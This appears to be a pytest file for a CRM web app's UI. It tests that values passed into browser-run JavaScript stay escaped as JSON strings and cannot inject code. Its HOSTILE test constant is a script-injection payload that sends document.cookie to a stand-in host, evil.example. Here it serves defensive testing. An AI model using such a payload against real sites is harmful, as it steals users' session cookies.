"""JavaScript the app asks the browser to run (rx.call_script) carries values only as JSON literals: a value
that came from a browser event or the database can never close a string and run code of its own."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from pkcrm_app.ui import browser
from pkcrm_app.ui.pages.board import reply_state
from pkcrm_app.ui.pages.whatsapp_settings import state as whatsapp_settings

HOSTILE = "x'); fetch('https://evil.example/?c=' + document.cookie); ('\"</script>\u2028"
UI = Path(__file__).resolve().parents[3] / "pkcrm_app" / "ui"

BUILDERS: dict[str, Callable[[str], str]] = {
    "post (url)": lambda value: browser.post_script(value),
    "reply file upload": lambda value: reply_state.file_upload_script(value),  # type: ignore[arg-type]
    "upload (url)": lambda value: browser.upload_script(value, "form", missing="no file"),
    "upload (form)": lambda value: browser.upload_script("/import/upload", value, missing="no file"),
    "upload (missing)": lambda value: browser.upload_script("/import/upload", "form", missing=value),
    "code post (url)": lambda value: browser.post_code_script(value, "code"),
    "code post (input)": lambda value: browser.post_code_script("/auth/step-up", value),
    "form post (url)": lambda value: browser.post_form_script(value, "form"),
    "form post (form)": lambda value: browser.post_form_script("/settings/sso/save", value),
    "form post and follow (url)": lambda value: browser.follow_script(value, "form"),
    "form post and follow (form)": lambda value: browser.follow_script("/auth/login", value),
    "enrolment code (input)": browser.enrolment_script,
}


def test_every_fetch_of_the_ui_goes_through_one_helper() -> None:
    """One helper builds every POST to our routes, so every one gets the same escaping and answer handling."""
    fetching = sorted(str(p.relative_to(UI)) for p in UI.rglob("*.py") if "fetch(" in p.read_text("utf-8"))
    assert fetching == ["browser.py"]


@pytest.mark.parametrize("name", sorted(BUILDERS))
def test_a_hostile_value_stays_inside_one_json_string(name: str) -> None:
    script = BUILDERS[name](HOSTILE)
    assert json.dumps(HOSTILE) in script or json.dumps(str(HOSTILE)) in script
    assert "evil.example" not in script.replace(json.dumps(HOSTILE), "")


def test_the_save_event_accepts_only_this_pages_form_ids() -> None:
    assert whatsapp_settings.FORM_ID.fullmatch("wa-number-new") and whatsapp_settings.FORM_ID.fullmatch("wa-number-7")
    assert not whatsapp_settings.FORM_ID.fullmatch(HOSTILE)


def test_no_ui_code_pastes_a_value_into_a_quoted_javascript_string() -> None:
    """The shape of the bug: a Python string closing a JavaScript '...' literal around a concatenated value."""
    pasted = re.compile(r"""'"\s*\+\s*[A-Za-z_(]|[A-Za-z_)\]]\s*\+\s*"'""")
    found = [f"{p.relative_to(UI)}:{n}" for p in UI.rglob("*.py")
             for n, line in enumerate(p.read_text("utf-8").splitlines(), 1) if pasted.search(line)]
    assert found == []
